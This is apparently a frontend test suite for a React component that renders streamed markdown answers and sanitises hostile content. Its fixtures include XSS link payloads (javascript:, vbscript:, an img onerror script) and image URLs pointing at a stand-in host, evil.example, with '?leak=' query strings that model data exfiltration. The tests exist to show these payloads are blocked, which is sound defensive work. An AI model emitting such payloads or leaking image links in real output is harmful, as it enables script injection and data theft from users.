import { render, screen } from '@testing-library/react';
import userEvent from '@testing-library/user-event';
import { describe, expect, test, vi } from 'vitest';
import { Answer } from './Answer.tsx';

const LINKS = [
  '[a](javascript:alert(1))',
  '[b](JaVaScRiPt:alert(1))',
  '[c](java&#x73;cript:alert(1))',
  '[d](\u0001javascript:alert(1))',
  '[e](data:text/html,<script>1</script>)',
  '[f](vbscript:x)',
  '<javascript:alert(1)>',
  '[g](//evil.example/x)',
  '[h](/\\evil.example/x)',
  '[i]: javascript:alert(1)',
  '[i]',
  '[ok](https://example.org/a?b=1&c=2)',
  '[mail](mailto:a@example.org)',
].join('\n\n');

const IMAGES = [
  '![s](https://evil.example/p.png?leak=abc)',
  '![r][r]',
  '',
  '[r]: https://evil.example/q.png?leak=def',
  '![](//evil.example/x)',
  '<img src="https://evil.example/y" srcset="https://evil.example/z 2x">',
  '![ok](data:image/png;base64,iVBORw0KGgo=)',
].join('\n');

/** Renders every beginning of a text as it streams, and the whole at the end. */
function eachPrefix(text: string, look: (root: HTMLElement, prefix: string) => void) {
  const { container, rerender } = render(<Answer text="" streaming />);
  for (let end = 1; end <= text.length; end++) {
    rerender(<Answer text={text.slice(0, end)} streaming />);
    look(container, text.slice(0, end));
  }
  rerender(<Answer text={text} />);
  look(container, text);
}

/** All that makes a browser ask for something by itself. */
function requestsOf(root: HTMLElement): string[] {
  return [...root.querySelectorAll('*')].flatMap((element) =>
    element
      .getAttributeNames()
      .filter((name) =>
        ['src', 'srcset', 'poster', 'data', 'background', 'action', 'formaction', 'ping'].includes(name),
      )
      .map((name) => element.getAttribute(name) ?? '')
      .concat(/url\(/.test(element.getAttribute('style') ?? '') ? ['style'] : [])
      .concat(['LINK', 'IFRAME', 'OBJECT', 'SCRIPT', 'STYLE'].includes(element.tagName) ? [element.tagName] : []),
  );
}

describe('R6.1: links', () => {
  test('only http, https and mailto are live, at every prefix, and none with half an address', () => {
    const seen = new Set<string>();
    eachPrefix(LINKS, (root) => {
      for (const link of root.querySelectorAll('a')) {
        seen.add(`${link.textContent} ${link.getAttribute('href')} ${link.target} ${link.rel}`);
      }
      expect(root).not.toHaveTextContent(/\]\(|blocked|streamdown/);
    });
    expect([...seen]).toEqual([
      'ok https://example.org/a?b=1&c=2 _blank noopener noreferrer',
      'mail mailto:a@example.org _blank noopener noreferrer',
    ]);
  });

  test('a bare address is live once it cannot go on', () => {
    const live = new Set<string>();
    eachPrefix('see https://example.org/a.b, or www.example.org', (root) => {
      for (const link of root.querySelectorAll('a')) live.add(link.href);
    });
    expect([...live]).toEqual(['https://example.org/a.b', 'http://www.example.org/']);
  });

  test('a reference finds its definition in another block, once that is whole', () => {
    const live = new Set<string>();
    eachPrefix('See [the docs][d].\n\nMore.\n\n[d]: https://example.org/docs\n\nEnd', (root) => {
      for (const link of root.querySelectorAll('a')) live.add(`${link.textContent} ${link.href}`);
    });
    expect([...live]).toEqual(['the docs https://example.org/docs']);
  });
});

describe('R6.1: images', () => {
  test('nothing is requested at any prefix; the image in the text itself is shown', () => {
    const asked = new Set<string>();
    eachPrefix(IMAGES, (root) => {
      for (const request of requestsOf(root)) asked.add(request);
      expect(root).not.toHaveTextContent(/!\[[^r]|\]\(/);
    });
    expect([...asked]).toEqual(['data:image/png;base64,iVBORw0KGgo=']);
  });

  test('a placeholder names the host, and the reader decides', async () => {
    const { container } = render(<Answer text={IMAGES} />);
    const buttons = screen.getAllByRole('button', { name: 'Show image from evil.example' });
    expect(buttons).toHaveLength(3);
    await userEvent.click(buttons[0] as HTMLElement);
    expect(requestsOf(container)).toContain('https://evil.example/p.png?leak=abc');
    expect(requestsOf(container)).not.toContain('https://evil.example/q.png?leak=def');
    expect(screen.getByAltText('s')).toHaveAttribute('referrerpolicy', 'no-referrer');
  });

  test('a host that the app allows loads without asking', () => {
    const allowImage = vi.fn((url: URL) => url.host === 'img.example');
    render(<Answer text="![a](https://img.example/a.png) ![b](https://evil.example/b.png)" allowImage={allowImage} />);
    expect(screen.getByAltText('a')).toHaveAttribute('src', 'https://img.example/a.png');
    expect(screen.queryByAltText('b')).toBeNull();
  });

  test('inside a link no button stands', () => {
    const { container } = render(<Answer text="[![badge](https://evil.example/b.svg)](https://example.org/)" />);
    expect(container.querySelector('a button')).toBeNull();
    expect(screen.getByRole('link')).toHaveTextContent('badge · evil.example');
  });
});

describe('R6.1: hostile text', () => {
  test('markup is text', () => {
    const text = '<img src=x onerror="alert(1)"> <script>alert(1)</script>\n\n<div>\n\n<b>*c*</b> <!-- d -->';
    const { container } = render(<Answer text={text} />);
    expect(container.querySelector('img, script, b')).toBeNull();
    expect(container).toHaveTextContent(
      '<img src=x onerror="alert(1)"> <script>alert(1)</script><div><b>c</b> <!-- d -->',
    );
  });

  test('control characters and overrides do not pass, written as entities neither', () => {
    const text = 'a\u0000\u202eb\u001b[31mc `\u202ed` &#x202e;e &#8238;f ![g&#x202e;](data:image/png,x)';
    const { container } = render(<Answer text={text} />);
    expect(container.innerHTML).not.toMatch(/[\x00-\x08\x1b\u202e]/);
    expect(container).toHaveTextContent('abc d e f');
  });

  test('each block has its own direction', () => {
    const { container } = render(<Answer text={'وجدت الخطأ\n\nFound it\n\n- واحد'} />);
    expect([...container.querySelectorAll('p, ul')].every((block) => block.getAttribute('dir') === 'auto')).toBe(true);
  });
});

describe('R6.1: streaming', () => {
  test('blocks that are done stay the same elements', () => {
    const { container, rerender } = render(<Answer text={'# One\n\ntwo\n\nthr'} streaming />);
    const before = [...container.querySelectorAll('h3, p')].slice(0, 2);
    rerender(<Answer text={'# One\n\ntwo\n\nthree\n\n- four'} streaming />);
    expect([...container.querySelectorAll('h3, p')].slice(0, 2)).toEqual(before);
    rerender(<Answer text={'# One\n\ntwo\n\nthree\n\n- four'} />);
    expect([...container.querySelectorAll('h3, p')].slice(0, 2)).toEqual(before);
  });

  test('no raw mark of a table, a fence or emphasis flashes', () => {
    const text =
      'Now **bold** and `code`.\n\n| a | b |\n|---|:-:|\n| 1 | **2** |\n\n```js\nlet x;\n```\n\n1. one\n2. _two_';
    eachPrefix(text, (root) => {
      expect(root.textContent).not.toMatch(/[*`|_]|--/);
    });
  });

  test('what was held back is shown at the end', () => {
    const { container, rerender } = render(<Answer text="see [1]" streaming />);
    expect(container).toHaveTextContent('see 1');
    rerender(<Answer text="see [1]" />);
    expect(container).toHaveTextContent('see [1]');
  });
});

test('code is copied as it is', async () => {
  const user = userEvent.setup();
  render(<Answer text={'```js\nlet x = 1;\n```'} />);
  await user.click(screen.getByRole('button', { name: 'Copy code' }));
  expect(await navigator.clipboard.readText()).toBe('let x = 1;\n');
  expect(screen.getByRole('button', { name: 'Copied' })).toBeVisible();
});

describe('section 8: what was written to do harm', () => {
  test.each([
    '*',
    '_',
    '* ',
    '- ',
    '1. ',
    '> ',
    '[',
    '[]',
    '![',
    '](',
    '`',
    '` ``',
    '&',
    '<',
    '|a',
    '**a ',
    '\\',
    '[a](',
    'a@',
    '\n',
    '- a\n',
    '[a]: b\n',
  ])('%j many times neither hangs nor throws', (piece) => {
    const text = piece.repeat(5000);
    const started = performance.now();
    const { container, rerender } = render(<Answer text={text} streaming />);
    rerender(<Answer text={`${text}x end`} />);
    expect(container).toHaveTextContent(/x end|b x/);
    expect(performance.now() - started).toBeLessThan(5000);
  });
});
